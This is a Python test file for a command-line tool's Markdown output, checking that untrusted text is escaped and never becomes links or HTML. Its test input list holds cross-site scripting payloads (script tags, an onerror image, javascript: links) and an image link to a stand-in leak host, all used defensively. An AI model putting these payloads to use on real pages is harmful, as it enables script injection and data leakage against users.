"""Foreign text in Markdown output: it is shown as it is, and no part of it becomes a link or an element of HTML."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from omni_pipelines.cli.formats import Format, as_markdown, say_rows

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/?leak)",
    "<javascript:alert(1)>",
    "&lt;b&gt; &#106;avascript",
    "a | b | c",
    "`code` **bold** __bold__ ~~gone~~",
    "\\<b\\>",
    "# heading",
    "name_with_underscores [1]",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_foreign_text_as_it_is(text: str) -> None:
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(f"> x {as_markdown(text)}")
    (inline,) = [token for token in tokens if token.type == "inline"]
    assert "".join(child.content for child in inline.children or []) == f"x {text}"
    assert {child.type for child in inline.children or []} <= {"text", "text_special"}


def test_cells_of_a_markdown_table_stay_cells(capsys: pytest.CaptureFixture[str]) -> None:
    say_rows(Format.MARKDOWN, ["text"], [{"text": text} for text in HOSTILE])
    rows = capsys.readouterr().out
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(rows)
    cells = [token for token in tokens if token.type == "td_open"]
    assert len(cells) == len(HOSTILE)
    assert not any(token.type.startswith("html") for token in tokens)


def test_programs_get_foreign_text_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    say_rows(Format.JSON_LINES, ["text"], [{"text": HOSTILE[0]}])
    assert capsys.readouterr().out == '{"text":"<script>alert(1)</script>"}\n'
